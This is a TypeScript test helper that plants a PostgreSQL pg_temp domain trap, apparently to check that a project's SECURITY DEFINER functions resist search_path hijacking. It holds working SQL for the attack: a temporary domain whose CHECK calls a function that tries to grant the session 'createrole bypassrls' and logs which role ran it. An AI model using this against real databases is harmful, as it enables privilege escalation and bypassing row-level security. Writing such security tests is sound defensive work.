/**
 * The pg_temp domain attack on SECURITY DEFINER code: a session-owned `pg_temp.<type>` domain whose
 * CHECK calls the attacker's own function. Any role may create temporary objects, and Postgres
 * searches pg_temp first for type names unless a function pins `search_path = pg_catalog, pg_temp`
 * and qualifies its types. Shared by the tests that aim it at each drift_guard entry point.
 */
import type postgres from "postgres";

/**
 * Plants the trap in the attacker's session: when code running as another role (the owner) uses
 * `type` unqualified, the CHECK escalates the session's role and records `current_user` in
 * `pg_temp.seen`. Read that table afterwards: any row other than the attacker's own name means the
 * attacker's code ran as someone else.
 *
 * @example
 * await plantTempDomainTrap(attacker, "text");
 * await attacker.unsafe("create temp table t (id pg_catalog.int4)"); // fires the ledger's trigger
 */
export async function plantTempDomainTrap(attacker: postgres.Sql, type: string): Promise<void> {
  // The domain comes first, with no constraint yet: plpgsql resolves a function's types when a
  // session first runs it. Every name in the attacker's own objects is qualified, so they work
  // whatever the path.
  await attacker.unsafe(`create domain pg_temp.${type} as pg_catalog.${type}`);
  await attacker.unsafe(`create temp table seen (who pg_catalog.text)`);
  // Where the owner is not a superuser (hosted Supabase), it may still write here.
  await attacker.unsafe(`grant insert on pg_temp.seen to public`);
  await attacker.unsafe(`
    create function pg_temp.evil(p pg_catalog.text) returns pg_catalog.bool language plpgsql as $$
    begin
      begin
        execute pg_catalog.format('alter role %I createrole bypassrls', pg_catalog."session_user"());
      exception when others then null;
      end;
      insert into pg_temp.seen values (pg_catalog."current_user"()::pg_catalog.text);
      return true;
    end $$`);
  await attacker.unsafe(`alter domain pg_temp.${type} add constraint hijack check (pg_temp.evil(value::pg_catalog.text))`);
}
